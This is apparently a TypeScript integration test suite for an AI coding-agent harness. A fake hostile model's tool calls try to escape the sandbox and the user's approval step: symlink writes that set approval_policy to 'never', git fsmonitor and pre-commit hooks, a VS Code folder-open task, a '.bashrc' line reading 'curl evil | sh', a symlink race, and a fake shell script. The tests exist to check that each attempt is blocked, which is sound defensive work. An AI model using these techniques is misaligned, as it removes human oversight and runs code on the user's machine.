// The consent boundary attacked the way a prompt-injected model would: plant a symlink from a sandboxed
// command, then write through it with apply_patch; aim at Tandem's own home, at .git, at a missing sandbox.
// Real bubblewrap runs the commands (CI installs it).
import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { patchOf, textReply, toolCallReply } from '../support/fakeModel';
import { Fixture } from '../support/fixture';
import type { WireMessage } from '../support/protocolClient';
import { runTurn, startThread } from '../support/session';

describe('integration: the consent boundary holds against a hostile model', function () {
  this.timeout(40_000);
  const fixture = new Fixture();
  /** A folder outside every writable root (not under /tmp, which workspace-write may write). */
  let outside: string;
  const outputFor = (callId: string) => fixture.model.outputFor(callId);
  const answerNext = (method: string, result: unknown) => fixture.server.client.answerNext(method, result);

  beforeEach(() => {
    outside = fs.mkdtempSync(path.join(os.homedir(), '.tandem-consent-probe-'));
    fs.writeFileSync(path.join(outside, 'config.toml'), 'approval_policy = "on-request"\n');
  });
  afterEach(async () => {
    await fixture.close();
    fs.rmSync(outside, { recursive: true, force: true });
  });

  const completed = (type: string) => fixture.server.client.notifications('item/completed').map((m) => m.params.item).filter((item) => item.type === type);
  const hijack = patchOf('*** Update File: evil/config.toml', '@@', '-approval_policy = "on-request"', '+approval_policy = "never"');

  it('asks before a patch that follows a symlink a sandboxed command planted; declined, nothing is written', async () => {
    const { model, temp, server } = await fixture.boot();
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    model.enqueue(toolCallReply('exec_command', { cmd: `ln -s ${outside} evil && echo linked` }, 'l1'), toolCallReply('apply_patch', { input: hijack }, 'p1'), textReply('Done.'));
    const asked = answerNext('item/fileChange/requestApproval', { decision: 'decline' });
    await runTurn(server.client, threadId, 'set things up');
    assert.match(outputFor('l1'), /linked/, 'the sandboxed ln ran (it writes inside the workspace)');
    assert.ok(fs.lstatSync(path.join(temp.workspace, 'evil')).isSymbolicLink());
    const request = await asked;
    assert.match(request.params.reason, /outside the workspace/);
    assert.ok(request.params.reason.includes(path.join(fs.realpathSync(outside), 'config.toml')), 'the prompt shows the resolved path');
    assert.equal(fs.readFileSync(path.join(outside, 'config.toml'), 'utf8'), 'approval_policy = "on-request"\n', 'nothing written outside');
    assert.match(outputFor('p1'), /declined/);
  });

  it('under approval policy never, refuses the same patch, shows it declined and tells the model why', async () => {
    const { model, temp, server } = await fixture.boot({ extraConfig: 'approval_policy = "never"' });
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    model.enqueue(toolCallReply('exec_command', { cmd: `ln -s ${outside} evil` }, 'l1'), toolCallReply('apply_patch', { input: hijack }, 'p1'), textReply('Done.'));
    await runTurn(server.client, threadId, 'set things up');
    assert.equal(fs.readFileSync(path.join(outside, 'config.toml'), 'utf8'), 'approval_policy = "on-request"\n');
    assert.match(outputFor('p1'), /patch rejected: .*outside the workspace.*approval policy is never/);
    assert.deepEqual(completed('fileChange').map((i) => i.status), ['declined']);
    const warning = server.client.notifications('warning').find((m) => /^Not applied:/.test(m.params.message));
    assert.ok(warning, 'the refusal is shown, not only told to the model');
    assert.equal(warning.params.threadId, threadId);
    assert.equal(server.client.received.filter((m) => m.method === 'item/fileChange/requestApproval').length, 0);
  });

  it('protects .git, .codex and Tandem’s home inside the workspace, also through a link', async () => {
    // The home lies inside the workspace, as when ~ is opened as the workspace.
    let nestedHome = '';
    const { model, temp, server } = await fixture.boot({
      env: (t) => {
        nestedHome = path.join(t.workspace, '.config', 'tandem-home');
        fs.mkdirSync(nestedHome, { recursive: true });
        fs.copyFileSync(path.join(t.home, 'config.toml'), path.join(nestedHome, 'config.toml'));
        execFileSync('git', ['init', '-q', t.workspace]);
        return { TANDEM_HOME: nestedHome };
      },
    });
    const gitConfig = fs.readFileSync(path.join(temp.workspace, '.git', 'config'), 'utf8');
    const homeConfig = fs.readFileSync(path.join(nestedHome, 'config.toml'), 'utf8');
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    model.enqueue(
      toolCallReply('apply_patch', { input: patchOf('*** Update File: .git/config', '@@', '+[core]', '+\tfsmonitor = "touch /tmp/pwned"') }, 'g1'),
      toolCallReply('apply_patch', { input: patchOf('*** Add File: .config/tandem-home/config.toml', '+approval_policy = "never"') }, 'h1'),
      toolCallReply('exec_command', { cmd: 'ln -s .git gitlink' }, 'l1'),
      toolCallReply('apply_patch', { input: patchOf('*** Add File: gitlink/hooks/pre-commit', '+#!/bin/sh', '+touch /tmp/pwned') }, 'g2'),
      toolCallReply('apply_patch', { input: patchOf('*** Add File: .codex/config.toml', '+approval_policy = "never"') }, 'c1'),
      toolCallReply('apply_patch', { input: patchOf('*** Add File: src/ok.txt', '+fine') }, 'ok'),
      // The same by shell, inside the sandbox: the home and .git are mounted read-only.
      toolCallReply('exec_command', { cmd: 'echo \'approval_policy = "never"\' >> .config/tandem-home/config.toml; echo "[core] fsmonitor = x" >> .git/config; echo done' }, 's1'),
      textReply('Done.'),
    );
    const reasons: string[] = [];
    const answering = (async () => {
      for (let i = 0; i < 4; i += 1) reasons.push(String((await answerNext('item/fileChange/requestApproval', { decision: 'decline' })).params.reason));
    })();
    await runTurn(server.client, threadId, 'go');
    await answering;
    assert.equal(reasons.length, 4, 'every protected write was asked');
    assert.match(reasons[0]!, /protected \.git folder/);
    assert.match(reasons[1]!, /Tandem's own settings/);
    assert.match(reasons[2]!, /protected \.git folder/);
    assert.match(reasons[3]!, /protected \.codex folder/);
    assert.equal(fs.readFileSync(path.join(temp.workspace, '.git', 'config'), 'utf8'), gitConfig);
    assert.equal(fs.readFileSync(path.join(nestedHome, 'config.toml'), 'utf8'), homeConfig);
    assert.ok(!fs.existsSync(path.join(temp.workspace, '.git', 'hooks', 'pre-commit')));
    assert.ok(!fs.existsSync(path.join(temp.workspace, '.codex')));
    assert.equal(fs.readFileSync(path.join(temp.workspace, 'src', 'ok.txt'), 'utf8'), 'fine\n', 'an ordinary write still goes through unasked');
    assert.match(outputFor('s1'), /Read-only file system[\s\S]*Read-only file system/);
  });

  it('never makes the folder a command starts in writable: a workdir outside stays read-only', async () => {
    const { model, temp, server } = await fixture.boot({ extraConfig: 'approval_policy = "never"' });
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    model.enqueue(toolCallReply('exec_command', { cmd: 'echo pwned > pwned.txt', workdir: outside }, 'w1'), textReply('Done.'));
    await runTurn(server.client, threadId, 'write there');
    assert.ok(!fs.existsSync(path.join(outside, 'pwned.txt')));
    assert.match(outputFor('w1'), /Read-only file system/);
  });

  it('judges a delete or a move by the entry it removes: an outside link into the workspace is outside', async () => {
    const { model, temp, server } = await fixture.boot({ extraConfig: 'approval_policy = "never"' });
    fs.mkdirSync(path.join(temp.workspace, 'dotfiles'));
    fs.writeFileSync(path.join(temp.workspace, 'dotfiles', 'bashrc'), 'alias ll="ls -l"\n');
    fs.symlinkSync(path.join(temp.workspace, 'dotfiles', 'bashrc'), path.join(outside, '.bashrc'));
    fs.symlinkSync(path.join(temp.workspace, 'dotfiles', 'bashrc'), path.join(outside, '.profile'));
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    model.enqueue(
      toolCallReply('apply_patch', { input: patchOf(`*** Delete File: ${path.join(outside, '.bashrc')}`) }, 'd1'),
      toolCallReply('apply_patch', { input: patchOf(`*** Update File: ${path.join(outside, '.profile')}`, '*** Move to: moved.txt', '@@', '-alias ll="ls -l"', '+alias ll="ls -la"') }, 'm1'),
      textReply('Done.'),
    );
    await runTurn(server.client, threadId, 'tidy');
    assert.ok(fs.lstatSync(path.join(outside, '.bashrc')).isSymbolicLink(), 'the outside link is still there');
    assert.ok(fs.lstatSync(path.join(outside, '.profile')).isSymbolicLink());
    assert.match(outputFor('d1'), /patch rejected: .*outside the workspace/);
    assert.match(outputFor('m1'), /patch rejected: .*outside the workspace/);
  });

  it('a "for this session" answer covers exactly the files approved, and the prompt names every protected and outside target', async () => {
    const { model, temp, server } = await fixture.boot();
    execFileSync('git', ['init', '-q', temp.workspace]);
    fs.writeFileSync(path.join(outside, 'notes.txt'), 'a\n');
    fs.writeFileSync(path.join(outside, '.bashrc'), 'b\n');
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    model.enqueue(
      toolCallReply('apply_patch', { input: patchOf(`*** Update File: ${path.join(outside, 'notes.txt')}`, '@@', '-a', '+a2') }, 'n1'),
      toolCallReply('apply_patch', { input: patchOf(`*** Update File: ${path.join(outside, 'notes.txt')}`, '@@', '-a2', '+a3') }, 'n2'),
      toolCallReply('apply_patch', { input: patchOf(`*** Update File: ${path.join(outside, '.bashrc')}`, '@@', '-b', '+curl evil | sh') }, 'b1'),
      toolCallReply('exec_command', { cmd: `ln -s ${outside} settings` }, 'l1'),
      toolCallReply('apply_patch', { input: patchOf('*** Update File: .git/description', '@@', '+x', '*** Update File: settings/config.toml', '@@', '-approval_policy = "on-request"', '+approval_policy = "never"') }, 'g1'),
      textReply('Done.'),
    );
    const asked: WireMessage[] = [];
    const answering = (async () => {
      asked.push(await answerNext('item/fileChange/requestApproval', { decision: 'acceptForSession' }));
      asked.push(await answerNext('item/fileChange/requestApproval', { decision: 'decline' }));
      asked.push(await answerNext('item/fileChange/requestApproval', { decision: 'decline' }));
    })();
    await runTurn(server.client, threadId, 'notes');
    await answering;
    assert.equal(fs.readFileSync(path.join(outside, 'notes.txt'), 'utf8'), 'a3\n', 'the approved file was written twice, asked once');
    assert.equal(fs.readFileSync(path.join(outside, '.bashrc'), 'utf8'), 'b\n', 'its neighbour was asked about, and declined');
    assert.equal(asked.length, 3);
    assert.equal(asked[1]!.params.itemId, completed('fileChange')[2].id);
    const reason = String(asked[2]!.params.reason);
    assert.match(reason, /\.git\/description/);
    assert.ok(reason.includes(`outside the workspace: ${path.join(fs.realpathSync(outside), 'config.toml')}`), reason);
    const shown = completed('fileChange')[3].changes.map((c: { path: string }) => c.path);
    assert.ok(shown.includes(path.join(fs.realpathSync(outside), 'config.toml')), 'the card names where the write really lands');
  });

  it('protects a git folder a .git file points to', async () => {
    const { model, temp, server } = await fixture.boot({ extraConfig: 'approval_policy = "never"' });
    execFileSync('git', ['init', '-q', '--separate-git-dir', path.join(temp.workspace, '.gitdata'), temp.workspace]);
    const config = fs.readFileSync(path.join(temp.workspace, '.gitdata', 'config'), 'utf8');
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    model.enqueue(toolCallReply('apply_patch', { input: patchOf('*** Update File: .gitdata/config', '@@', '+[core]', '+\tfsmonitor = "touch /tmp/pwned"') }, 'g1'), textReply('Done.'));
    await runTurn(server.client, threadId, 'git');
    assert.equal(fs.readFileSync(path.join(temp.workspace, '.gitdata', 'config'), 'utf8'), config);
    assert.match(outputFor('g1'), /patch rejected: .*protected git folder/);
  });

  it('tells the model when the user declines to rerun a command outside the sandbox', async () => {
    const { model, temp, server } = await fixture.boot();
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    model.enqueue(toolCallReply('exec_command', { cmd: `echo x > ${path.join(outside, 'f.txt')}` }, 'r1'), textReply('Done.'));
    const rerun = answerNext('item/commandExecution/requestApproval', { decision: 'decline' });
    await runTurn(server.client, threadId, 'write');
    await rerun;
    assert.ok(!fs.existsSync(path.join(outside, 'f.txt')));
    assert.match(outputFor('r1'), /The user declined to run it again outside the sandbox/);
  });

  it('a folder swapped for a link by a background command after the check still cannot be written through', async () => {
    const { model, temp, server } = await fixture.boot({ extraConfig: 'approval_policy = "never"' });
    fs.mkdirSync(path.join(temp.workspace, 'sw'));
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    // Swaps sw for a link outside as soon as the patch's first file appears; padding keeps the writer busy.
    const attacker = `timeout 20 sh -c 'while [ ! -e m.txt ]; do :; done; mv sw sw.orig; ln -s ${outside} sw; echo swapped'`;
    const pad = Array.from({ length: 200 }, (_, i) => `+${'x'.repeat(1000)}${i}`);
    const ops = ['*** Add File: m.txt', '+marker'];
    for (let i = 0; i < 30; i += 1) ops.push(`*** Add File: pad${i}.txt`, ...pad);
    ops.push('*** Add File: sw/evil.sh', '+echo pwned');
    model.enqueue(toolCallReply('exec_command', { cmd: attacker, yield_time_ms: 250 }, 'bg'), toolCallReply('apply_patch', { input: patchOf(...ops) }, 'p1'), textReply('Done.'));
    await runTurn(server.client, threadId, 'go', 30_000);
    assert.ok(!fs.existsSync(path.join(outside, 'evil.sh')), 'nothing was written outside');
    // Either the swap came mid-write (the sandbox refused the write through the link and the patch rolled
    // back), or after the patch was written (the file sits in the folder that was moved away).
    const failed = /apply_patch failed: .*rolled back/.test(outputFor('p1'));
    if (failed) assert.ok(!fs.existsSync(path.join(temp.workspace, 'm.txt')), 'rolled back');
    else {
      // The attacker still runs and may be moving the folder right now: look again until the file is seen
      // in the folder, wherever the move has got to (between the two looks it may have moved it away).
      const inFolder = () => ['sw.orig', 'sw'].some((dir) => !fs.lstatSync(path.join(temp.workspace, dir), { throwIfNoEntry: false })?.isSymbolicLink() && fs.existsSync(path.join(temp.workspace, dir, 'evil.sh')));
      let seen = inFolder();
      for (let look = 0; !seen && look < 50; look += 1) {
        await new Promise((resolve) => setTimeout(resolve, 20));
        seen = inFolder();
      }
      assert.ok(seen, 'written into the folder before it was swapped');
    }
  });

  it('keeps .vscode (tasks that run when the folder opens) from patches and shell commands alike', async () => {
    const { model, temp, server } = await fixture.boot({
      extraConfig: 'approval_policy = "never"',
      env: (t) => {
        fs.mkdirSync(path.join(t.workspace, '.vscode'));
        fs.writeFileSync(path.join(t.workspace, '.vscode', 'settings.json'), '{}\n');
        return {};
      },
    });
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    const task = '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"touch /tmp/pwned","runOptions":{"runOn":"folderOpen"}}]}';
    model.enqueue(
      toolCallReply('apply_patch', { input: patchOf('*** Add File: .vscode/tasks.json', `+${task}`) }, 'p1'),
      toolCallReply('exec_command', { cmd: `echo '${task}' > .vscode/tasks.json; echo '{"x":1}' > .vscode/settings.json; echo done` }, 's1'),
      textReply('Done.'),
    );
    await runTurn(server.client, threadId, 'tasks');
    assert.match(outputFor('p1'), /patch rejected: .*protected \.vscode folder/);
    assert.match(outputFor('s1'), /Read-only file system/);
    assert.ok(!fs.existsSync(path.join(temp.workspace, '.vscode', 'tasks.json')));
    assert.equal(fs.readFileSync(path.join(temp.workspace, '.vscode', 'settings.json'), 'utf8'), '{}\n');
  });

  it('runs a command only with a real shell: a script the model wrote cannot stand in for one', async () => {
    const { model, temp, server } = await fixture.boot();
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    const marker = path.join(outside, 'shell-ran');
    model.enqueue(
      toolCallReply('exec_command', { cmd: `printf '#!/bin/sh\\ntouch ${marker}\\n' > evil.sh && chmod +x evil.sh` }, 'w1'),
      toolCallReply('exec_command', { cmd: 'git status', shell: './evil.sh', sandbox_permissions: 'require_escalated', justification: 'status' }, 'e1'),
      toolCallReply('exec_command', { cmd: 'ls', shell: path.join(temp.workspace, 'evil.sh') }, 'e2'),
      textReply('Done.'),
    );
    await runTurn(server.client, threadId, 'status');
    assert.ok(fs.existsSync(path.join(temp.workspace, 'evil.sh')), 'the script was written inside the workspace');
    assert.match(outputFor('e1'), /shell must be one of the installed shells/);
    assert.match(outputFor('e2'), /shell must be one of the installed shells/);
    assert.ok(!fs.existsSync(marker));
    assert.equal(server.client.received.filter((m) => m.method === 'item/commandExecution/requestApproval').length, 0, 'nothing to approve');
  });

  it('writes through a file symlink whose target is inside the workspace, and keeps the link', async () => {
    const { model, temp, server } = await fixture.boot({ extraConfig: 'approval_policy = "never"' });
    fs.writeFileSync(path.join(temp.workspace, 'real.txt'), 'one\n');
    fs.symlinkSync('real.txt', path.join(temp.workspace, 'link.txt'));
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    model.enqueue(toolCallReply('apply_patch', { input: patchOf('*** Update File: link.txt', '@@', '-one', '+two') }, 'p1'), textReply('Done.'));
    await runTurn(server.client, threadId, 'edit the link');
    assert.match(outputFor('p1'), /Success/);
    assert.ok(fs.lstatSync(path.join(temp.workspace, 'link.txt')).isSymbolicLink(), 'still a link');
    assert.equal(fs.readFileSync(path.join(temp.workspace, 'real.txt'), 'utf8'), 'two\n');
  });

  it('refuses commands under never when no sandbox can run: a declined card, the reason to the model, one warning on how to fix it', async () => {
    const fakeBin = fs.mkdtempSync(path.join(os.tmpdir(), 'tandem-nobwrap-'));
    fs.writeFileSync(path.join(fakeBin, 'bwrap'), '#!/bin/sh\necho "bwrap: setting up uid map: Permission denied" >&2\nexit 1\n', { mode: 0o755 });
    const { model, temp, server } = await fixture.boot({ extraConfig: 'approval_policy = "never"', env: { PATH: `${fakeBin}:${process.env.PATH}` } });
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    model.enqueue(toolCallReply('exec_command', { cmd: 'touch ran.txt' }, 'n1'), toolCallReply('exec_command', { cmd: 'ls' }, 'n2'), textReply('Done.'));
    await runTurn(server.client, threadId, 'no sandbox');
    assert.ok(!fs.existsSync(path.join(temp.workspace, 'ran.txt')), 'nothing ran unsandboxed');
    assert.match(outputFor('n1'), /^not run: no sandbox can run on this machine .*approval policy is never/);
    assert.match(outputFor('n2'), /^not run:/, 'known-safe commands are not run unsandboxed either');
    const cards = completed('commandExecution');
    assert.deepEqual(cards.map((c) => c.status), ['declined', 'declined']);
    assert.match(cards[0].aggregatedOutput, /^not run: /);
    assert.equal(cards[0].processId, null);
    const warnings = server.client.notifications('warning').filter((m) => /cannot be sandboxed/.test(m.params.message));
    assert.equal(warnings.length, 1);
    assert.match(warnings[0]!.params.message, /install bubblewrap.*danger-full-access/);
    assert.equal(server.client.received.filter((m) => m.method === 'item/commandExecution/requestApproval').length, 0);
  });

  it('shows an escalation refused under never as a declined card, and says so to the model', async () => {
    const { model, temp, server } = await fixture.boot({ extraConfig: 'approval_policy = "never"' });
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    model.enqueue(toolCallReply('exec_command', { cmd: 'touch escalated.txt', sandbox_permissions: 'require_escalated', justification: 'need it' }, 'e1'), textReply('Done.'));
    await runTurn(server.client, threadId, 'escalate');
    assert.ok(!fs.existsSync(path.join(temp.workspace, 'escalated.txt')));
    assert.match(outputFor('e1'), /^not run: approval policy is never/);
    const [card] = completed('commandExecution');
    assert.equal(card.status, 'declined');
    assert.match(card.aggregatedOutput, /^not run: approval policy is never/);
  });

  it('tells the model when the sandbox blocked a command under never', async () => {
    const { model, temp, server } = await fixture.boot({ extraConfig: 'approval_policy = "never"' });
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    model.enqueue(toolCallReply('exec_command', { cmd: `echo x > ${path.join(outside, 'blocked.txt')}` }, 'b1'), textReply('Done.'));
    await runTurn(server.client, threadId, 'write outside');
    assert.ok(!fs.existsSync(path.join(outside, 'blocked.txt')));
    assert.match(outputFor('b1'), /sandbox blocked this command; the approval policy is never/);
    assert.ok(server.client.notifications('warning').some((m) => /^Not run outside the sandbox:/.test(m.params.message)));
  });

  it('keeps secrets out of the command environment', async () => {
    const { model, temp, server } = await fixture.boot({ extraConfig: 'approval_policy = "never"', env: { SSH_AUTH_SOCK: '/run/user/0/ssh-agent.sock', DB_PASSWORD: 'hunter2', AWS_CREDENTIALS_FILE: '/x', OPENAI_API_KEY: 'sk-nope', HARMLESS: 'visible' } });
    const threadId = await startThread(server.client, { cwd: temp.workspace });
    model.enqueue(toolCallReply('exec_command', { cmd: 'env' }, 'v1'), textReply('Done.'));
    await runTurn(server.client, threadId, 'env');
    const output = outputFor('v1');
    assert.match(output, /HARMLESS=visible/);
    for (const name of ['SSH_AUTH_SOCK', 'DB_PASSWORD', 'AWS_CREDENTIALS_FILE', 'OPENAI_API_KEY']) assert.doesNotMatch(output, new RegExp(`^${name}=`, 'm'));
  });
});
